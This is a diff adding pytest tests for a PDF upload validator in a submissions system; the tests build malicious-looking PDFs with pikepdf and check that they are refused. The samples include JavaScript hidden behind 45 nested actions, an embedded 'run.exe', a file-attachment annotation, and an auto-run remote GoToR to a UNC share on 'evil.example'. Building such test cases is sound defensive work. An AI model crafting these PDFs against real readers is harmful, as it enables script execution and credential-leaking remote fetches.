@@ -16,7 +16,7 @@ from hypothesis import HealthCheck, given, settings
 
 from judging.models import Scorecard
 from submissions.enums import Status
-from submissions.filetypes import sniff
+from submissions.filetypes import PDF, Verdict, sniff
 from submissions.models import Attachment, ImportJob, ReviewLog
 from tests.factories import SubmissionFactory
 from tests.world import build_world
@@ -265,6 +265,86 @@ def test_pdf_with_script_or_auto_action_is_refused(content):
     assert verdict.problem == (
         "PDF 含有 JavaScript 脚本或自动执行的动作，出于安全原因不予接受；请用“打印为 PDF”重新生成后上传"
     )
+
+
+def pdf_with_nested_script(depth: int = 45) -> bytes:
+    """Return a PDF whose /OpenAction hides JavaScript behind ``depth`` nested /Next actions."""
+    buffer = io.BytesIO()
+    with pikepdf.new() as pdf:
+        pdf.add_blank_page()
+        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
+        for _ in range(depth):
+            action = pikepdf.Dictionary(
+                S=pikepdf.Name.GoTo, D=pikepdf.Array([0, pikepdf.Name.Fit]), Next=action
+            )
+        pdf.Root.OpenAction = action
+        pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    return buffer.getvalue()
+
+
+def pdf_with_embedded_file() -> bytes:
+    buffer = io.BytesIO()
+    with pikepdf.new() as pdf:
+        pdf.add_blank_page()
+        spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not a report", filename="run.exe")
+        pdf.attachments["run.exe"] = spec
+        pdf.save(buffer)
+    return buffer.getvalue()
+
+
+def pdf_with_attachment_annotation() -> bytes:
+    buffer = io.BytesIO()
+    with pikepdf.new() as pdf:
+        pdf.add_blank_page()
+        annotation = pikepdf.Dictionary(
+            Type=pikepdf.Name.Annot,
+            Subtype=pikepdf.Name.FileAttachment,
+            Rect=pikepdf.Array([0, 0, 10, 10]),
+        )
+        pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annotation]))
+        pdf.save(buffer)
+    return buffer.getvalue()
+
+
+def pdf_with_remote_goto() -> bytes:
+    buffer = io.BytesIO()
+    with pikepdf.new() as pdf:
+        pdf.add_blank_page()
+        pdf.Root.OpenAction = pikepdf.Dictionary(
+            S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil.example\\share\\x.pdf"),
+            D=pikepdf.Array([0, pikepdf.Name.Fit]),
+        )  # fmt: skip
+        pdf.save(buffer)
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize("content", [pdf_with_nested_script(45), pdf_with_remote_goto()])
+def test_pdf_with_script_behind_45_nested_actions_or_remote_goto_is_refused(content):
+    verdict = sniff(io.BytesIO(content))
+    assert verdict == Verdict(
+        None,
+        "PDF 含有 JavaScript 脚本或自动执行的动作，出于安全原因不予接受；请用“打印为 PDF”重新生成后上传",
+    )
+
+
+@pytest.mark.parametrize("content", [pdf_with_embedded_file(), pdf_with_attachment_annotation()])
+def test_pdf_with_embedded_file_is_refused(content):
+    verdict = sniff(io.BytesIO(content))
+    assert verdict == Verdict(
+        None, "PDF 含有嵌入的文件（附件），出于安全原因不予接受；请用“打印为 PDF”重新生成后上传"
+    )
+
+
+def test_pdf_with_deep_harmless_nesting_and_links_is_accepted():
+    buffer = io.BytesIO()
+    with pikepdf.new() as pdf:
+        pdf.add_blank_page()
+        action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org"))
+        for _ in range(200):
+            action = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0]), Next=action)
+        pdf.Root.OpenAction = action
+        pdf.save(buffer)
+    assert sniff(io.BytesIO(buffer.getvalue())) == Verdict(PDF, None)
 
 
 @pytest.mark.django_db
